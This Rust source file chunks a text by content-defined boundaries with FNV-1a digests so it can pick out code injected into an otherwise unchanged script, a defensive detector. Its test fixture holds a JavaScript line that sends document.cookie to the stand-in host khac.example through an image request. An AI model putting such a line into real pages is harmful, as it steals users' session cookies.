//! A text in pieces that are cut where its contents say so: what is added in its midst leaves all other pieces as they were.

use std::collections::BTreeSet;

use serde::{Deserialize, Serialize};

/// Bytes that decide whether a piece ends.
const WINDOW: usize = 12;
/// One in so many ends of a statement ends a piece.
const ONE_IN: u32 = 8;
/// Bytes of a piece at most.
const PIECE_BYTES: usize = 4 * 1024;
/// Pieces that are kept, enough for a library of 500 KiB. Of what is larger, none are.
const PIECES_MAX: usize = 2_000;
/// Pieces from which on a share of them says something.
const PIECES_MIN: usize = 4;
/// Of ten pieces before, how many must be left for the text to be the same one.
const LEFT_OF_TEN: usize = 7;
/// How many times as long the text may be at most that is still called an addition: a half more.
const ADDED_OF_TEN: usize = 5;

/// The pieces of a text, by digests.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Pieces(BTreeSet<u32>);

impl Pieces {
    /// Takes a text apart.
    pub(super) fn of(text: &[u8]) -> Self {
        let pieces: BTreeSet<u32> = cut(text).take(PIECES_MAX + 1).map(digest).collect();
        if pieces.len() > PIECES_MAX {
            return Self::default();
        }
        Self(pieces)
    }

    /// Returns what `text` has beyond these pieces, where most of them are still in it.
    pub(super) fn added_in(&self, text: &[u8]) -> Option<Vec<u8>> {
        if self.0.len() < PIECES_MIN {
            return None;
        }
        let mut left = BTreeSet::new();
        let mut added = Vec::new();
        for piece in cut(text) {
            let digest = digest(piece);
            if self.0.contains(&digest) {
                left.insert(digest);
            } else {
                added.extend_from_slice(piece);
            }
        }
        let is_most_left = left.len() * 10 >= self.0.len() * LEFT_OF_TEN;
        let is_little = added.len() * 10 <= text.len() * ADDED_OF_TEN;
        (is_most_left && is_little).then_some(added)
    }
}

/// Cuts a text behind some of its statements and lines; which ones is decided by the bytes before the cut.
fn cut(text: &[u8]) -> impl Iterator<Item = &[u8]> {
    let mut rest = text;
    std::iter::from_fn(move || {
        if rest.is_empty() {
            return None;
        }
        let most = rest.len().min(PIECE_BYTES);
        let is_end = |at: &usize| {
            matches!(rest[*at - 1], b';' | b'\n' | b'}')
                && digest(&rest[*at - WINDOW..*at]).is_multiple_of(ONE_IN)
        };
        let end = (WINDOW..=most).find(is_end).unwrap_or(most);
        let (piece, after) = rest.split_at(end);
        rest = after;
        Some(piece)
    })
}

/// Returns a digest that nobody has to be unable to forge: whoever can make pieces alike must also leave the rest as it is (FNV-1a).
fn digest(bytes: &[u8]) -> u32 {
    bytes.iter().fold(0x811c_9dc5, |sum, byte| {
        (sum ^ u32::from(*byte)).wrapping_mul(0x0100_0193)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn library() -> Vec<u8> {
        let functions = (0..400).map(|number| {
            let name = number * 7_919 % 1_000;
            format!("function f{name}(a){{var b=a*{number};return b+{name};}}\n")
        });
        functions.collect::<String>().into_bytes()
    }

    #[test]
    fn what_is_added_in_the_midst_is_found_and_little_else() {
        let before = library();
        let added = b"(function(){new Image().src='//khac.example/'+document.cookie;})();";
        let mut after = before.clone();
        after.splice(7_000..7_000, added.iter().copied());
        let found = Pieces::of(&before).added_in(&after).unwrap();
        let text = String::from_utf8(found).unwrap();
        assert!(text.contains("khac.example"), "{text}");
        assert!(text.len() < 8 * 1024, "{}", text.len());
    }

    #[test]
    fn another_text_is_no_addition() {
        let before = library();
        let after: Vec<u8> = before.iter().map(|byte| byte.rotate_left(1)).collect();
        assert_eq!(Pieces::of(&before).added_in(&after), None);
        assert_eq!(Pieces::of(b"").added_in(&after), None);
        assert_eq!(Pieces::of(b"a;b;c").added_in(b"a;b;c;d"), None);
    }
}
